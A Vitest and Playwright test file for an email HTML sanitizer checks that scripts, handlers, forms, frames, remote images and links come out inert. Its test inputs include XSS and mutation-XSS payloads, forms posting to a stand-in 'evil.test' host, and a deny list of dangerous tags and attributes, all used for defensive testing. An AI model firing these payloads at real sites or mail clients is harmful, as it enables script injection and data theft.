import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { build, type Rollup } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MailBodyLimit, MailImageSources, SanitizedMail } from '../../../../../renderer/src/features/mail/sanitize-mail-html.ts';
import { CONTENT_SECURITY_POLICY } from '../../../../../electron/web/static-files.ts';
import { launchBrowser } from '../../../../helpers/browser.ts';
import { REPO_ROOT } from '../../../../helpers/web-app.ts';

/**
 * The sanitizer needs a real DOM, so it runs in Chromium: bundled on the fly from its source,
 * put into a blank page, and called there. What the test then checks is the output parsed
 * again the way the mail frame will parse it.
 */

declare global {
  interface Window {
    MailSanitizer: { sanitizeMailHtml(html: string, images?: MailImageSources, limit?: MailBodyLimit | null): SanitizedMail; FIRST_VIEW: MailBodyLimit };
  }
}

interface Images {
  inline?: Record<string, string>;
  remote?: Record<string, string> | null;
}

/** What a browser makes of the sanitized HTML: every element with its attributes, and the text. */
interface Parsed {
  elements: { tag: string; attrs: Record<string, string> }[];
  text: string;
  styles: string[];
}

let browser: Browser;
let page: Page;
let code = '';

async function bundle(): Promise<string> {
  const out = await build({
    configFile: false,
    logLevel: 'silent',
    build: {
      write: false,
      minify: false,
      lib: { entry: path.join(REPO_ROOT, 'renderer/src/features/mail/sanitize-mail-html.ts'), formats: ['iife'], name: 'MailSanitizer' },
    },
  });
  const outputs = (Array.isArray(out) ? out : [out]) as Rollup.RollupOutput[];
  const chunk = outputs.flatMap((o) => o.output).find((o): o is Rollup.OutputChunk => o.type === 'chunk');
  if (!chunk) throw new Error('no bundle');
  return chunk.code;
}

beforeAll(async () => {
  code = await bundle();
  browser = await launchBrowser();
  page = await browser.newPage();
  await page.setContent('<!doctype html><html><body></body></html>');
  await page.addScriptTag({ content: code });
});

afterAll(async () => {
  await browser?.close();
});

async function sanitize(html: string, images: Images = {}): Promise<SanitizedMail & { parsed: Parsed }> {
  return page.evaluate(
    ({ html, images }) => {
      const sources = {
        inline: new Map(Object.entries(images.inline ?? {})),
        remote: images.remote === null || images.remote === undefined ? null : new Map(Object.entries(images.remote)),
      };
      const result = window.MailSanitizer.sanitizeMailHtml(html, sources);
      const doc = new DOMParser().parseFromString(`<!doctype html><html><head></head><body>${result.html}</body></html>`, 'text/html');
      const elements = [...doc.body.querySelectorAll('*')].map((el) => ({
        tag: el.localName,
        attrs: Object.fromEntries([...el.attributes].map((a) => [a.name, a.value])),
      }));
      const styles = [...doc.querySelectorAll('style')].map((s) => s.textContent ?? '');
      return { ...result, parsed: { elements, text: doc.body.textContent ?? '', styles } };
    },
    { html, images: { inline: images.inline ?? {}, remote: images.remote ?? null } },
  );
}

const FORBIDDEN = new Set(['script', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select', 'meta', 'link', 'base', 'svg', 'math', 'video', 'audio', 'source', 'template', 'noscript']);

/** Whatever came in, nothing that can run, fetch, submit or navigate comes out. */
function expectInert(parsed: Parsed, context: string): void {
  for (const { tag, attrs } of parsed.elements) {
    expect(FORBIDDEN.has(tag), `${context}: <${tag}>`).toBe(false);
    for (const [name, value] of Object.entries(attrs)) {
      expect(name.startsWith('on'), `${context}: ${tag}[${name}]`).toBe(false);
      expect(['href', 'action', 'formaction', 'srcset', 'background', 'poster', 'xlink:href', 'ping', 'srcdoc', 'target'].includes(name), `${context}: ${tag}[${name}]`).toBe(false);
      if (name === 'src') expect(value.startsWith('data:image/'), `${context}: ${tag}[src=${value}]`).toBe(true);
      if (name === 'style') expect(value, `${context}: ${tag}[style=${value}]`).not.toMatch(/url\(\s*(?!["']?data:image\/)|@import|expression\(/i);
    }
  }
  for (const css of parsed.styles) expect(css, `${context}: <style>`).not.toMatch(/url\(\s*(?!["']?data:image\/)|@import|<\//i);
}

describe('sanitizeMailHtml in Chromium', () => {
  it('removes scripts, handlers, forms, frames, embeds, meta and SVG', async () => {
    const html = `<meta http-equiv="refresh" content="0;url=http://evil.test/"><base href="http://evil.test/"><link rel=stylesheet href="http://evil.test/x.css">
      <p onclick="alert(1)" onmouseover="alert(2)">Hello <b>buyer</b></p><script>alert(3)</script>
      <form action="http://evil.test/steal"><label>Password</label><input name=p><button formaction="http://evil.test/b">Go</button></form>
      <iframe src="http://evil.test/f"></iframe><object data="http://evil.test/o"></object><embed src="http://evil.test/e">
      <svg><script>alert(4)</script><image href="http://evil.test/s.png"/></svg><math><mi xlink:href="javascript:alert(5)">x</mi></math>
      <video poster="http://evil.test/p.png"><source src="http://evil.test/v.mp4"></video><details open ontoggle="alert(6)">d</details>`;
    const out = await sanitize(html);
    expectInert(out.parsed, 'hostile');
    expect(out.parsed.text).toContain('Hello buyer');
    expect(out.parsed.text).toContain('Password');
    expect(out.parsed.text).not.toContain('alert');
  });

  it('shows a placeholder for remote images and counts them; the fetched bytes when allowed', async () => {
    const html = `<img src="http://t.test/pixel.gif" width=1 height=1 onerror="alert(1)"><img srcset="https://t.test/a.png 1x, https://t.test/b.png 2x" alt="Logo">
      <table background="http://t.test/bg.png"><tr><td style="background:url('http://t.test/td.png') no-repeat">x</td></tr></table>`;
    const blocked = await sanitize(html);
    expectInert(blocked.parsed, 'blocked');
    expect(blocked.remoteUrls).toEqual(['http://t.test/pixel.gif', 'https://t.test/a.png', 'http://t.test/bg.png', 'http://t.test/td.png']);
    expect(blocked.blockedRemote).toBe(4);
    const imgs = blocked.parsed.elements.filter((e) => e.tag === 'img');
    expect(imgs.map((i) => 'data-tf-blocked' in i.attrs)).toEqual([true, true]);
    expect(imgs[1]!.attrs.alt).toBe('Logo');

    const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
    const allowed = await sanitize(html, { remote: { 'http://t.test/pixel.gif': pixel, 'http://t.test/td.png': 'data:image/png;base64,AAAA' } });
    expectInert(allowed.parsed, 'allowed');
    expect(allowed.blockedRemote).toBe(2);
    expect(allowed.parsed.elements.find((e) => e.tag === 'img')!.attrs.src).toBe(pixel);
    expect(allowed.parsed.elements.find((e) => e.tag === 'td')!.attrs.style).toContain('url("data:image/png;base64,AAAA")');
  });

  it('resolves cid: images from the message\'s own parts', async () => {
    const out = await sanitize('<img src="cid:Logo.PNG@01D9"><img src="cid:missing@x">', { inline: { 'logo.png@01d9': 'data:image/png;base64,AAAA' } });
    expect(out.contentIds).toEqual(['logo.png@01d9', 'missing@x']);
    const [found, missing] = out.parsed.elements.filter((e) => e.tag === 'img');
    expect(found!.attrs.src).toBe('data:image/png;base64,AAAA');
    expect(missing!.attrs.src).toBeUndefined();
    expect(out.blockedRemote).toBe(0);
  });

  it('keeps styles but cleans them, including Outlook\'s <!-- --> wrapper', async () => {
    const out = await sanitize(`<html><head><style><!-- p.MsoNormal{margin:0} @import url(http://t.test/x.css); body{background:url(http://t.test/b.png)} --></style></head><body><p class="MsoNormal" style="color:red;background-image:url(http://t.test/s.png)">Hi</p></body></html>`);
    expectInert(out.parsed, 'styles');
    expect(out.parsed.styles.join('')).toContain('p.MsoNormal{margin:0}');
    expect(out.parsed.elements.find((e) => e.tag === 'p')!.attrs.style).toContain('color:red');
    expect(out.remoteUrls).toEqual(['http://t.test/b.png', 'http://t.test/s.png']);
  });

  it('makes links inert, showing web and mail addresses on hover and listing them', async () => {
    const out = await sanitize(`<a href="javascript:alert(1)">js</a> <a href="https://shop.test/p?a=1&amp;b=2" target="_blank" ping="http://t.test/ping">Shop</a> <a href="mailto:sales@x.test">Mail us</a> <a href="data:text/html,<script>alert(1)</script>">data</a>`);
    expectInert(out.parsed, 'links');
    const anchors = out.parsed.elements.filter((e) => e.tag === 'a');
    expect(anchors.map((a) => a.attrs.title ?? null)).toEqual([null, 'https://shop.test/p?a=1&b=2', 'mailto:sales@x.test', null]);
    expect(anchors.map((a) => 'data-tf-link' in a.attrs)).toEqual([false, true, true, false]);
    expect(out.links).toEqual([
      { url: 'https://shop.test/p?a=1&b=2', text: 'Shop' },
      { url: 'mailto:sales@x.test', text: 'Mail us' },
    ]);
  });

  it('survives known mutation-XSS and parser-confusion payloads', async () => {
    const payloads = [
      '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<a href="jav&#x09;ascript:alert(1)">x</a><a href=" javascript:alert(1)">y</a>',
      '<img src="http://t.test/a.png"style="x:expression(alert(1))">',
      '<div style="background:u\\rl(http://t.test/esc.png)">e</div>',
      '<style>@\\69mport "http://t.test/i.css";</style>',
      '<xmp><img src=x onerror=alert(1)></xmp><listing><img src=x onerror=alert(1)></listing>',
      '<template><img src=x onerror=alert(1)></template><select><template><img src=x onerror=alert(1)></template></select>',
      '<div id="x"><img name="body"><form name="getElementById"></form></div>',
      '<!--><img src=x onerror=alert(1)>-->',
      '<style></style\n><img src=x onerror=alert(1)>',
    ];
    for (const payload of payloads) {
      const out = await sanitize(payload);
      expectInert(out.parsed, payload);
    }
  });

  it('parses in a frame where nothing runs: no handler is compiled against the app page, nothing reaches its CSP', async () => {
    // A page of its own under the app's real CSP; the bundle goes in through the debugger
    // protocol, which the CSP does not govern, as the app's own script would come from 'self'.
    const app = await browser.newPage();
    try {
      await app.route('http://app.test/', (route) =>
        route.fulfill({ contentType: 'text/html', headers: { 'content-security-policy': CONTENT_SECURITY_POLICY }, body: '<!doctype html><html><body><div id="root">app</div></body></html>' }),
      );
      await app.goto('http://app.test/');
      await app.evaluate(`${code}\nwindow.MailSanitizer = MailSanitizer;`);
      const seen = await app.evaluate(async () => {
        const violations: string[] = [];
        const added: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective}: ${e.sample}`));
        // Whatever enters the app's own document while sanitizing.
        const observer = new MutationObserver((records) => {
          for (const r of records) for (const n of r.addedNodes) added.push(n.nodeName);
        });
        observer.observe(document, { subtree: true, childList: true });
        const mark = "document.documentElement.setAttribute('data-pwned','1')";
        const hostile =
          `<p onclick="${mark}" onmouseover="${mark}">Hello</p><img src="x" onerror="${mark}"><img src="http://t.test/p.gif" onload="${mark}">` +
          `<svg onload="${mark}"><animate onbegin="${mark}"/></svg><details open ontoggle="${mark}">d</details>` +
          `<body onload="${mark}"><video><source onerror="${mark}"></video><style>@import url(http://t.test/i.css)</style><input autofocus onfocus="${mark}">`;
        const out = window.MailSanitizer.sanitizeMailHtml(hostile);
        // Twice: the second call reuses the parser frame.
        window.MailSanitizer.sanitizeMailHtml(hostile);
        await new Promise((resolve) => setTimeout(resolve, 500));
        observer.disconnect();
        const frames = [...document.querySelectorAll('iframe')].map((f) => f.getAttribute('sandbox'));
        return { violations, added, frames, pwned: document.documentElement.hasAttribute('data-pwned'), text: out.html.includes('Hello') };
      });
      // The old sanitizer parsed in the app's window: one script-src-attr violation per handler.
      expect(seen.violations).toEqual([]);
      expect(seen.pwned).toBe(false);
      expect(seen.text).toBe(true);
      // Only the parser frame itself entered the app's document, sandboxed without scripts.
      expect(seen.added).toEqual(['IFRAME']);
      expect(seen.frames).toEqual(['allow-same-origin']);
    } finally {
      await app.close();
    }
  });

  it('keeps only the beginning of a huge mail for the first view, and all of it when asked', async () => {
    const word = 'abcdefghijklmnopqrstuvwxyz0123456789'.repeat(30_000); // 1,080,000 characters without a space
    const html = `<style>p { color: #333 }</style><p>Before</p><p>${word}</p><p id="after">After</p>`;
    const first = await page.evaluate(
      ({ html }) => {
        const t0 = performance.now();
        const out = window.MailSanitizer.sanitizeMailHtml(html, undefined, window.MailSanitizer.FIRST_VIEW);
        const ms = performance.now() - t0;
        const doc = new DOMParser().parseFromString(`<body>${out.html}</body>`, 'text/html');
        // The text as laid out: the sheet apart.
        const sheet = doc.querySelector('style');
        sheet?.remove();
        return { ms, truncated: out.truncated, text: doc.body.textContent ?? '', style: sheet?.textContent ?? '', after: doc.getElementById('after') !== null };
      },
      { html },
    );
    expect(first.truncated).toBe(true);
    // At most the first view's text, and a prefix of the mail's.
    expect(first.text.length).toBeLessThanOrEqual(100_000);
    expect(first.text.length).toBeGreaterThan(90_000);
    expect(`Before${word}`.startsWith(first.text), 'a prefix').toBe(true);
    expect(first.after).toBe(false);
    expect(first.style).toContain('color');

    const whole = await sanitize(html);
    expect(whole.truncated).toBe(false);
    // (As booleans: a failing comparison of a megabyte would print it.)
    expect(whole.parsed.text === `${first.style}Before${word}After`).toBe(true);
    // The run is in pieces the frame lays out only when scrolled near; shorter text is not.
    expect(whole.parsed.elements.filter((e) => e.tag === 'tf-piece')).toHaveLength(word.length / 10_000);
    expect(whole.parsed.elements.find((e) => e.tag === 'p')?.attrs).toEqual({});

    // Ordinary mail is not cut, however long its style sheet: sheets are not laid out as text.
    const styled = await page.evaluate(
      ({ sheet }) => window.MailSanitizer.sanitizeMailHtml(`<style>${sheet}</style><p>Short</p>`, undefined, window.MailSanitizer.FIRST_VIEW).truncated,
      { sheet: '.a { color: red }\n'.repeat(8_000) },
    );
    expect(styled).toBe(false);
  });

  it('leaves ordinary business mail as it was written', async () => {
    const html = '<div dir="ltr"><p>Dear Anna,</p><p>Please find our <b>FOB Ningbo</b> price below:</p><table border="1" cellpadding="4"><tr><th>Model</th><th>USD</th></tr><tr><td>TF-200</td><td>5.20</td></tr></table><blockquote>Price?</blockquote><p>报价有效期 30 天。</p></div>';
    const out = await sanitize(html);
    // As a browser parses it: the table gains its implied <tbody>, nothing else changes.
    expect(out.html).toBe(html.replace('<tr>', '<tbody><tr>').replace('</table>', '</tbody></table>'));
    expect(out.blockedRemote).toBe(0);
  });
});
